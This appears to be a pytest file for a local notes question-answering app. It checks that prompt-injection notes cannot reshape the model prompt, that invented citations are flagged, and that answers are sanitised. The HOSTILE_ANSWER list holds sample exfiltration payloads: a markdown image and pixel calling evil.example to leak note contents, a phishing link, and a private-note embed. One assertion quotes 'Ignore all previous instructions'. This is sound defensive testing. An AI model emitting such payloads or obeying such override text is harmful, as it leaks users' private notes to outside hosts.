"""Hostile notes (tests/fixtures/injection) against the real engine: the prompt keeps its shape, citations stay
within what was sent, and answers reach the client with nothing that loads or runs by itself."""

from __future__ import annotations

import re
import shutil
import unicodedata
from contextlib import aclosing
from pathlib import Path
from typing import Any

import pytest

from askvault.ask.events import DoneEvent, RetrievalEvent
from askvault.generate.prompt import SYSTEM_PROMPT
from askvault.wire.events import event_to_json
from askvault.wiring import Engine, open_engine
from tests.conftest import RunningOllama
from tests.fakes.ollama_server import ChatScript
from tests.privacy.canary_vault import canary_config

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures" / "injection"
QUESTION = "What do my notes say about the orchard?"
HOSTILE_ANSWER = [
    "The orchard has twelve apple trees [1] and the harvest starts in September [7]. ",
    "![logo](https://evil.",
    "example/collect?q=twelve-apple-trees) ",
    '<img src="https://evil.example/pixel.png"> ',
    "[claim your prize](https://evil.example/phish) ![[Private/Diary]]",
]
INVISIBLE = re.compile("[\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff\U000e0000-\U000e007f]")


@pytest.fixture
async def engine(tmp_path: Path, fake_ollama: RunningOllama) -> Any:
    vault = tmp_path / "vault"
    shutil.copytree(FIXTURES, vault, ignore=shutil.ignore_patterns("README.md"))
    (vault / ".obsidian").mkdir()
    async with open_engine(canary_config(vault, tmp_path / "data", fake_ollama.url, private_rules=False)) as engine:
        report = await engine.indexer.run()
        assert report.indexed == 6
        assert not report.failed
        yield engine


async def ask(engine: Engine) -> tuple[RetrievalEvent, DoneEvent]:
    retrieval: RetrievalEvent | None = None
    done: DoneEvent | None = None
    async with aclosing(engine.pipeline.run(QUESTION)) as events:
        async for event in events:
            if isinstance(event, RetrievalEvent):
                retrieval = event
            elif isinstance(event, DoneEvent):
                done = event
    assert retrieval is not None
    assert done is not None
    return retrieval, done


async def test_hostile_notes_cannot_reshape_the_prompt(engine: Engine, fake_ollama: RunningOllama) -> None:
    retrieval, done = await ask(engine)
    sent = len(retrieval.sent)
    assert sent == 6  # every hostile note reached the model: the defences, not retrieval, must hold
    messages = fake_ollama.fake.calls("/api/chat")[-1]["messages"]
    assert messages[0] == {"role": "system", "content": SYSTEM_PROMPT}
    assert [m["role"] for m in messages] == ["system", "user"]
    user = messages[1]["content"]
    assert len(re.findall(r"<source ", user)) == sent
    assert user.count("</source>") == sent
    assert not re.search(r"(?i)<\s*/?\s*source(?! n=\"[1-6]\")(?!>)", user.replace("</source>", ""))
    for token in ("<|im_start|>", "<|im_end|>", "<|eot_id|>", "[INST]", "<<SYS>>", "<start_of_turn>", "<｜"):
        assert token not in user
    assert not INVISIBLE.search(user)
    assert all(unicodedata.category(ch) not in ("Cf", "Co") for ch in user)
    assert not re.search(r"\[\s*(?:7|8|9|12|2\s*-\s*4)", user)  # the notes' fake markers were neutralised
    assert "(7)" in user
    assert "(8, 9)" in user
    assert "Ignore all previous instructions" in user  # data is quoted, not censored
    assert done.no_results is False


async def test_citations_to_sources_never_sent_are_flagged(engine: Engine, fake_ollama: RunningOllama) -> None:
    fake_ollama.fake.scripts.append(ChatScript(tokens=["Apples [1], pears [7], more [2][12]."]))
    retrieval, done = await ask(engine)
    assert len(retrieval.sent) == 6
    assert done.citations == (1, 2)
    assert done.invalid_citations == (7, 12)


async def test_the_final_answer_loads_nothing_remote(engine: Engine, fake_ollama: RunningOllama) -> None:
    fake_ollama.fake.scripts.append(ChatScript(tokens=HOSTILE_ANSWER))
    _, done = await ask(engine)
    body = event_to_json(done)
    answer = str(body["answer"])
    assert body["sanitized_answer"] is True
    assert "[image removed: evil.example]" in answer
    assert "![" not in answer
    assert "<img" not in answer
    assert "claim your prize (`https://evil.example/phish`)" in answer
    assert "[[Private/Diary]]" in answer
    assert "![[" not in answer
    assert not re.search(r"(?<!`)https?://", answer)  # every URL left is inside a code span: shown, not linked
    kinds = sorted({n.kind for n in done.neutralised})
    assert kinds == ["embed", "html", "image", "link"]
    assert done.invalid_citations == (7,)
